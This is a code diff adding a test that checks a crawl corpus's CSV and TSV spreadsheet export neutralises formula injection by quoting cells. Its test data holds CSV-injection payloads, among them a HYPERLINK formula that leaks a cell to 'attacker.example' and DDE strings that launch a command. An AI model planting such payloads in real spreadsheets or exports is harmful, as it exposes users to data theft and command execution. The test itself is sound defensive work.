@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import hashlib
 import json
+import shutil
 import socket
 import sqlite3
 import sys
@@ -226,6 +227,53 @@ def test_s15_export_entry_names_never_derive_from_content(hostile, tmp_path):
         assert ":" not in name and "\\" not in name
     warcs = [n for n in names if n.startswith("archive/")]
     assert warcs and all(n.endswith(".warc.gz") for n in warcs)
+
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_s16_the_spreadsheet_export_defuses_formulas_in_every_cell(hostile, tmp_path):
+    import csv
+
+    from schemas.spreadsheet import export_table
+
+    # The hostile crawl's own corpus, plus an article whose every field is a formula.
+    db = tmp_path / "corpus.db"
+    shutil.copy(hostile.db_path, db)
+    corpus = Corpus(db)
+    evil = {
+        "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
+        "author": "+cmd|' /C calc'!A0",
+        "sitename": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "text": "-2+3+cmd|' /C calc'!A0\nsecond line",
+        "language": "\t=1+1",
+    }
+    capture = Capture(
+        url="http://h/=formula",
+        status=200,
+        fetched_at="2024-05-01T00:00:00+00:00",
+        warc_filename="x.warc.gz",
+        warc_offset=0,
+        warc_length=1,
+        warc_record_id="<urn:uuid:16>",
+    )
+    article = Article(
+        evil["text"], evil["title"], evil["author"], None, evil["language"], evil["sitename"],
+        None, capture.url, "x",
+    )  # fmt: skip
+    corpus.store_article(capture, article, url_key=capture.url, crawl_id=None)
+    corpus.close()
+    for suffix, delimiter in ((".csv", ","), (".tsv", "\t")):
+        path, rows = export_table(db, tmp_path / f"articles{suffix}")
+        with open(path, encoding="utf-8", newline="") as fh:
+            table = list(csv.DictReader(fh, delimiter=delimiter))
+        assert rows == len(table) >= 2
+        for row in table:
+            for name, cell in row.items():
+                assert not cell.startswith(_FORMULA_START), (suffix, name, cell[:40])
+        mine = next(r for r in table if r["url"] == capture.url)
+        for name, value in evil.items():
+            assert mine[name] == "'" + value  # defused, not altered
 
 
 def test_s17_an_export_that_cannot_fit_is_refused_before_writing(hostile, tmp_path, monkeypatch):
